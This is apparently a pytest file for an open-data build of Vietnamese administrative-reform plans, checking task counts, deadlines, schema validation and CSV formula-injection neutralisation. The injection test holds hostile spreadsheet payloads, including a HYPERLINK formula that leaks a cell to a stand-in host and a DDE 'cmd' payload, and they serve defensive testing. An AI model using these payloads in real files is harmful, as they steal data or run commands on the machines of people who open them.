"""Open data built by the real command from the bundled content: the issue's counts, CSV form, JSON Schema."""
from __future__ import annotations

import copy
import csv
import json
import re
from collections import Counter, defaultdict
from datetime import date
from pathlib import Path

import pytest

from conftest import AS_OF, run_build

TASK_COLUMNS = ["plan_id", "task_id", "area", "number", "content", "deliverables", "lead", "support",
                "deadline_text", "deadline_kind", "deadline_start", "deadline_end"]
TARGET_COLUMNS = ["plan_id", "target_id", "name", "lead", "period", "comparator", "value", "unit", "value_text"]
BOM = b"\xef\xbb\xbf"

THIEN_PHU = "thien-phu/kh-cchc-2026-2030"
THUONG_XUAN = "thuong-xuan/kh-cchc-2026"
LUNG_PHINH = "lung-phinh/kh-cchc-cds-2025-2030"
PHU_TRUNG = "phu-trung/kh-cchc-2026-2030"
TUE_TINH_QD = "tue-tinh/qd-364-2026"
TUE_TINH_PLAN = "tue-tinh/kh-cchc-2026-2030"


@pytest.fixture(scope="session")
def data_dir(tmp_path_factory) -> Path:
    """site/data/ of the bundled content, built once by ``build.py --only data``."""
    site = tmp_path_factory.mktemp("data-build") / "site"
    proc = run_build("--only", "data", "--site", str(site), "--as-of", AS_OF)
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    return site / "data"


def _csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="session")
def tasks(data_dir) -> list[dict]:
    return _csv(data_dir / "tasks.csv")


@pytest.fixture(scope="session")
def targets(data_dir) -> list[dict]:
    return _csv(data_dir / "targets.csv")


@pytest.fixture(scope="session")
def plans(data_dir) -> dict:
    return json.loads((data_dir / "plans.json").read_text(encoding="utf-8"))


def _rows(rows, plan_id):
    return [r for r in rows if r["plan_id"] == plan_id]


# --- the files ------------------------------------------------------------------------------

def test_the_five_files_are_written(data_dir):
    assert sorted(p.name for p in data_dir.iterdir()) == ["plans.json", "progress.csv", "schema.json", "targets.csv",
                                                          "tasks.csv"]


@pytest.mark.parametrize("name, required", [("tasks.csv", TASK_COLUMNS), ("targets.csv", TARGET_COLUMNS)])
def test_csv_starts_with_a_bom_and_the_required_columns(data_dir, name, required):
    raw = (data_dir / name).read_bytes()
    assert raw.startswith(BOM)
    assert not raw[3:].startswith(BOM)  # one BOM, not two
    header = next(csv.reader(raw[3:].decode("utf-8").splitlines()))
    assert header[:len(required)] == required
    assert len(header) == len(set(header))
    text = raw.decode("utf-8-sig")
    assert "Cải cách" in text or "Tỷ lệ" in text  # Vietnamese survives as UTF-8


# --- tasks.csv: the counts of issue 2 ----------------------------------------------------------

def test_thien_phu_36_tasks_in_6_areas(tasks):
    rows = _rows(tasks, THIEN_PHU)
    assert len(rows) == 36
    assert Counter(r["area"] for r in rows) == {"institutions": 5, "procedures": 11, "organisation": 1,
                                               "civil_service": 2, "public_finance": 4, "digital_government": 13}
    assert [int(r["number"]) for r in rows] == list(range(1, 37))  # the seed's second "34." is task 18


def test_thuong_xuan_38_tasks_in_7_appendices(tasks):
    rows = _rows(tasks, THUONG_XUAN)
    assert len(rows) == 38
    assert Counter(r["appendix"] for r in rows) == {"pl01": 4, "pl02": 9, "pl03": 4, "pl04": 4, "pl05": 4,
                                                   "pl06": 5, "pl07": 8}
    assert len({r["area"] for r in rows}) == 7


def test_lung_phinh_22_activities_13_objectives_7_areas(tasks):
    rows = _rows(tasks, LUNG_PHINH)
    assert len(rows) == 22
    assert len({r["area"] for r in rows}) == 7
    objectives = {r["task_id"].rsplit("-", 1)[0] for r in rows}  # pl-i-<group>-<objective>-<activity>
    assert len(objectives) == 13
    assert len({(r["area"], r["objective"]) for r in rows}) == 13
    assert all(r["appendix"] == "pl-i" and r["objective"] and r["parent_task"] for r in rows)


def test_phu_trung_6_area_commitments(tasks):
    rows = _rows(tasks, PHU_TRUNG)
    assert len(rows) == 6
    assert [r["area"] for r in rows] == ["institutions", "procedures", "organisation", "civil_service",
                                         "public_finance", "digital_government"]
    assert all(r["appendix"] == "" for r in rows)  # written in the body, not in an appendix


def test_every_task_has_a_lead_agency(tasks, plans):
    assert len(tasks) == 143
    agencies = {(c["id"], a["id"]) for c in plans["communes"] for a in c["agencies"]}
    for r in tasks:
        assert r["lead"].strip(), r["task_id"]
        ids = r["lead_ids"].split(";")
        assert len(ids) == len(r["lead"].split("; "))
        assert all((r["commune"], i) in agencies for i in ids), (r["plan_id"], r["task_id"], ids)


def test_task_ids_are_unique_per_plan(tasks):
    keys = [(r["plan_id"], r["task_id"]) for r in tasks]
    assert len(keys) == len(set(keys))


def test_deadline_columns(tasks):
    by = {(r["plan_id"], r["deadline_text"]): r for r in tasks}
    r = by[(THUONG_XUAN, "Quý III,IV/2026")]
    assert (r["deadline_kind"], r["deadline_start"], r["deadline_end"]) == ("range", "2026-07-01", "2026-12-31")
    r = by[(THUONG_XUAN, "Trước ngày 15/01/2026")]
    assert (r["deadline_kind"], r["deadline_start"], r["deadline_end"]) == ("range", "", "2026-01-15")
    r = by[(LUNG_PHINH, "Quý IV hàng năm")]
    assert (r["deadline_kind"], r["recurrence"]) == ("recurring", "FREQ=YEARLY;BYMONTH=10,11,12")
    r = by[(THIEN_PHU, "Theo hướng dẫn của Sở Nội vụ.")]
    assert (r["deadline_kind"], r["depends_on"], r["deadline_start"]) == ("dependent", "hướng dẫn của Sở Nội vụ", "")
    assert {r["deadline_kind"] for r in tasks} <= {"range", "recurring", "ongoing", "dependent", "unknown"}
    # no deadline is unreadable; a row without one is a commitment whose source states none
    assert [r["task_id"] for r in tasks if r["deadline_kind"] == "unknown" and r["deadline_text"]] == []
    assert all(r["deadline_in_source"] == "false" for r in tasks if not r["deadline_text"])


def test_deliverables_one_per_line(tasks):
    r = next(r for r in tasks if r["plan_id"] == THIEN_PHU and r["task_id"] == "pl-2")
    assert r["deliverables"].split("\n") == ["Kế hoạch của cơ quan có thẩm quyền.", "Báo cáo kết quả thực hiện."]


# --- targets.csv ------------------------------------------------------------------------------

def test_lung_phinh_27_indicators_of_phu_luc_ii(targets):
    rows = [r for r in _rows(targets, LUNG_PHINH) if r["appendix"] == "pl-ii"]
    by_id = defaultdict(list)
    for r in rows:
        by_id[r["target_id"]].append(r)
    assert len(by_id) == 27
    years = {str(y) for y in range(2025, 2031)}
    for target_id, values in by_id.items():
        periods = [v["period"] for v in values]
        if periods == [""]:  # the source gives no value in any year: one row, no value
            assert values[0]["value_text"] == "" and values[0]["value"] == ""
            continue
        assert set(periods) <= years and periods == sorted(periods), target_id
        assert all(v["value_text"] and v["value"] != "" for v in values), target_id
    g5 = by_id["pl-ii-1-1"]
    assert [(v["period"], v["comparator"], v["value"], v["unit"], v["value_text"]) for v in g5] == [
        ("2025", "≥", "40", "%", "≥ 40%"), ("2026", "≥", "45", "%", "≥ 45%"), ("2027", "≥", "45", "%", "≥ 45%"),
        ("2028", "≥", "55", "%", "≥ 55%"), ("2029", "≥", "50", "%", "≥ 50%"), ("2030", "≥", "60", "%", "≥ 60%")]
    assert g5[0]["name"] == "Tỷ lệ phủ sóng 5G (6G từ năm 2030) Doanh nghiệp chủ trì"
    assert [(v["period"], v["value"]) for v in by_id["pl-ii-2-1"]][:2] == [("2025", "1"), ("2026", "1.5")]
    assert [v["period"] for v in by_id["pl-ii-5-13"]] == ["2026", "2027", "2028", "2029", "2030"]
    assert sum(len(v) for v in by_id.values()) == 150


def test_body_targets_keep_comparator_and_period(targets):
    rows = _rows(targets, LUNG_PHINH)
    cut = [r for r in rows if r["name"] == "Tỷ lệ số quy định liên quan đến hoạt động kinh doanh được cắt giảm, "
                                         "đơn giản hóa"]
    assert [(r["comparator"], r["value"], r["unit"], r["period"]) for r in cut] == [("tối thiểu", "20", "%", "2025-2030")]


# --- plans.json and its schema ------------------------------------------------------------------

def test_plans_json_holds_every_document(plans):
    docs = {d["id"]: d for d in plans["documents"]}
    assert set(docs) == {THIEN_PHU, THUONG_XUAN, LUNG_PHINH, PHU_TRUNG, TUE_TINH_QD, TUE_TINH_PLAN}
    assert sum(len(d["tasks"]) for d in docs.values()) == 143
    assert len([a for a in docs[THUONG_XUAN]["appendices"] if a["content"]]) == 7
    assert [a["content"]["shape"] for a in docs[LUNG_PHINH]["appendices"]] == ["framework", "indicator_matrix"]


def test_decision_and_its_attached_plan(plans):
    docs = {d["id"]: d for d in plans["documents"]}
    qd, plan = docs[TUE_TINH_QD], docs[TUE_TINH_PLAN]
    assert (qd["type"], qd["number"], qd["symbol"]) == ("QĐ", "364", "QĐ-UBND")
    assert qd["date"] == {"year": 2026, "month": 4, "day": 24}
    assert [a["number"] for a in qd["articles"]] == [1, 2, 3]
    assert qd["articles"][0]["text"].startswith("Ban hành kèm theo Quyết định này Kế hoạch")
    assert qd["issues"] == TUE_TINH_PLAN and plan["attached_to"] == TUE_TINH_QD
    rep = qd["replaces"]
    assert (rep["type"], rep["number"], rep["date"]) == ("Quyết định", "586/QĐ-UBND", "2025-09-08")
    assert rep["text"].startswith("Quyết định số 586/QĐ-UBND ngày 08 tháng 9 năm 2025")


def test_referred_only_appendices(plans):
    docs = {d["id"]: d for d in plans["documents"]}
    for doc_id, labels in ((PHU_TRUNG, ["Phụ lục I", "Phụ lục II"]), (TUE_TINH_PLAN, ["Phụ lục I", "Danh mục nhiệm vụ"])):
        referred = [a for a in docs[doc_id]["appendices"] if a["referred_only"]]
        assert [a["label"] for a in referred] == labels
        assert all(a["content"] is None and a["file"] is None and a["mention"] for a in referred)


def test_no_position_markers_leak_into_the_data(data_dir):
    text = (data_dir / "plans.json").read_text(encoding="utf-8")
    assert "__pos__" not in text and '"pos"' not in text


def test_plans_json_validates_against_schema_json(data_dir, plans):
    schema = json.loads((data_dir / "schema.json").read_text(encoding="utf-8"))
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert set(schema["required"]) == {"communes", "documents"}
    errors = validate(plans, schema)
    assert errors == []


@pytest.mark.parametrize("breakage, expected", [
    (lambda p: p["documents"][0].pop("subject"), "'subject' is required"),
    (lambda p: p["documents"][2]["tasks"][0]["deadline"].__setitem__("kind", "sometime"), "not one of"),
    (lambda p: p["documents"][2]["tasks"][0].__setitem__("colour", "red"), "'colour' is not allowed"),
    (lambda p: p["documents"][0].__setitem__("period", {"start": "2025", "end": 2030}), "is not of type integer"),
    (lambda p: p["communes"][0]["agencies"][0].__setitem__("id", "Bad Id"), "does not match"),
])
def test_the_schema_check_can_fail(data_dir, plans, breakage, expected):
    """The validator used above is not a rubber stamp: a broken plans.json is refused."""
    schema = json.loads((data_dir / "schema.json").read_text(encoding="utf-8"))
    broken = copy.deepcopy(plans)
    breakage(broken)
    errors = validate(broken, schema)
    assert any(expected in e for e in errors), errors


def test_same_content_gives_the_same_bytes(data_dir, tmp_path):
    again = tmp_path / "site"
    proc = run_build("--only", "data", "--site", str(again), "--as-of", AS_OF, "--full")
    assert proc.returncode == 0, proc.stderr
    for name in ("plans.json", "schema.json", "tasks.csv", "targets.csv"):
        assert (again / "data" / name).read_bytes() == (data_dir / name).read_bytes(), name


# --- a small JSON Schema validator (jsonschema is not a dependency of the project) ------------

def validate(instance, schema: dict) -> list[str]:
    """Errors of ``instance`` against ``schema``, for the keywords that pydantic's schemas use."""
    return _validate(instance, schema, schema, "$")


def _is(instance, kind: str) -> bool:
    return {
        "object": lambda v: isinstance(v, dict),
        "array": lambda v: isinstance(v, list),
        "string": lambda v: isinstance(v, str),
        "integer": lambda v: isinstance(v, int) and not isinstance(v, bool),
        "number": lambda v: isinstance(v, (int, float)) and not isinstance(v, bool),
        "boolean": lambda v: isinstance(v, bool),
        "null": lambda v: v is None,
    }[kind](instance)


_KNOWN = {"$ref", "$defs", "$schema", "anyOf", "oneOf", "allOf", "const", "enum", "type", "properties", "required",
          "additionalProperties", "items", "minItems", "maxItems", "minimum", "maximum", "pattern", "format",
          "minLength", "maxLength", "default", "description", "title", "discriminator", "examples",
          "readOnly"}  # annotations (JSON Schema 2020-12 §9): nothing to validate


def _validate(instance, schema: dict, root: dict, path: str) -> list[str]:
    unknown = set(schema) - _KNOWN
    assert not unknown, f"schema keyword(s) this validator does not know: {unknown} at {path}"
    errors: list[str] = []
    if "$ref" in schema:
        ref = schema["$ref"]
        assert ref.startswith("#/$defs/"), ref
        errors += _validate(instance, root["$defs"][ref.removeprefix("#/$defs/")], root, path)
    for sub in schema.get("allOf", []):
        errors += _validate(instance, sub, root, path)
    if "anyOf" in schema:
        results = [_validate(instance, s, root, path) for s in schema["anyOf"]]
        if all(results):
            errors.append(f"{path}: matches no schema of anyOf: " + " | ".join(r[0] for r in results))
    if "oneOf" in schema:
        results = [_validate(instance, s, root, path) for s in schema["oneOf"]]
        ok = sum(not r for r in results)
        if ok != 1:
            errors.append(f"{path}: matches {ok} schemas of oneOf: " + " | ".join(r[0] for r in results if r))
    if "const" in schema and instance != schema["const"]:
        errors.append(f"{path}: {instance!r} is not {schema['const']!r}")
    if "enum" in schema and instance not in schema["enum"]:
        errors.append(f"{path}: {instance!r} is not one of {schema['enum']}")
    if "type" in schema:
        kinds = schema["type"] if isinstance(schema["type"], list) else [schema["type"]]
        if not any(_is(instance, k) for k in kinds):
            return errors + [f"{path}: {instance!r:.40} is not of type {' or '.join(kinds)}"]
    if isinstance(instance, dict):
        props = schema.get("properties", {})
        for name in schema.get("required", []):
            if name not in instance:
                errors.append(f"{path}: '{name}' is required")
        extra = schema.get("additionalProperties", True)
        for key, value in instance.items():
            if key in props:
                errors += _validate(value, props[key], root, f"{path}.{key}")
            elif extra is False:
                errors.append(f"{path}: '{key}' is not allowed")
            elif isinstance(extra, dict):
                errors += _validate(value, extra, root, f"{path}.{key}")
    if isinstance(instance, list):
        if len(instance) < schema.get("minItems", 0):
            errors.append(f"{path}: fewer than {schema['minItems']} items")
        if "maxItems" in schema and len(instance) > schema["maxItems"]:
            errors.append(f"{path}: more than {schema['maxItems']} items")
        if "items" in schema:
            for i, item in enumerate(instance):
                errors += _validate(item, schema["items"], root, f"{path}[{i}]")
    if isinstance(instance, str):
        if "pattern" in schema and not re.search(schema["pattern"], instance):
            errors.append(f"{path}: {instance!r} does not match {schema['pattern']!r}")
        if len(instance) < schema.get("minLength", 0):
            errors.append(f"{path}: shorter than {schema['minLength']}")
        if "maxLength" in schema and len(instance) > schema["maxLength"]:
            errors.append(f"{path}: longer than {schema['maxLength']}")
        if schema.get("format") == "date":
            try:
                date.fromisoformat(instance)
            except ValueError:
                errors.append(f"{path}: {instance!r} is not a date")
    if _is(instance, "number"):
        if "minimum" in schema and instance < schema["minimum"]:
            errors.append(f"{path}: {instance} < {schema['minimum']}")
        if "maximum" in schema and instance > schema["maximum"]:
            errors.append(f"{path}: {instance} > {schema['maximum']}")
    return errors


# --- formula injection (issue 17, item 2) -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)"]


def test_csv_cells_that_start_like_a_formula_are_text(tmp_path):
    """A task or target whose text starts with = + - @ is written with a leading ' (OWASP), so a
    spreadsheet shows it as text; plans.json keeps it exactly; the data page says so."""
    import shutil

    content = tmp_path / "content"
    shutil.copytree(Path(__file__).parent / "fixtures" / "checker" / "clean", content)
    appendix = content / "demo" / "kh-demo-2026" / "appendix-01.yaml"
    text = appendix.read_text(encoding="utf-8")
    text = text.replace("content: Rà soát văn bản quy phạm pháp luật.", f"content: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}'")
    text = text.replace("content: Kiểm soát thủ tục hành chính.", f"content: \"{FORMULAS[1]}\"")
    text = text.replace("deliverables: [Kế hoạch kiểm soát.]", f"deliverables: [\"{FORMULAS[2]}\"]")
    appendix.write_text(text, encoding="utf-8")
    (content / "demo" / "kh-demo-2026" / "targets.yaml").write_text(
        f"targets:\n  - name: \"{FORMULAS[3]}\"\n    value_text: \"{FORMULAS[4]}\"\n    period: \"2026\"\n    lead: []\n",
        encoding="utf-8")
    site = tmp_path / "site"
    proc = run_build("--only", "data", "--content", str(content), "--site", str(site), "--as-of", AS_OF)
    assert proc.returncode == 0, proc.stderr
    task_rows, target_rows = _csv(site / "data" / "tasks.csv"), _csv(site / "data" / "targets.csv")
    assert [r["content"] for r in task_rows] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
    assert task_rows[1]["deliverables"] == "'" + FORMULAS[2]
    assert (target_rows[0]["name"], target_rows[0]["value_text"]) == ("'" + FORMULAS[3], "'" + FORMULAS[4])
    every_cell = [v for r in [*task_rows, *target_rows] for v in r.values()]
    assert not [v for v in every_cell if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    plans = json.loads((site / "data" / "plans.json").read_text(encoding="utf-8"))
    tasks_json = plans["documents"][0]["tasks"]
    assert [t["content"] for t in tasks_json] == FORMULAS[:2]


def test_the_data_page_says_how_csv_cells_are_neutralised(built_site):
    page = (built_site / "theo-doi" / "index.html").read_text(encoding="utf-8")
    assert "không chạy nó như công thức" in page and "changed_after_signing" in page
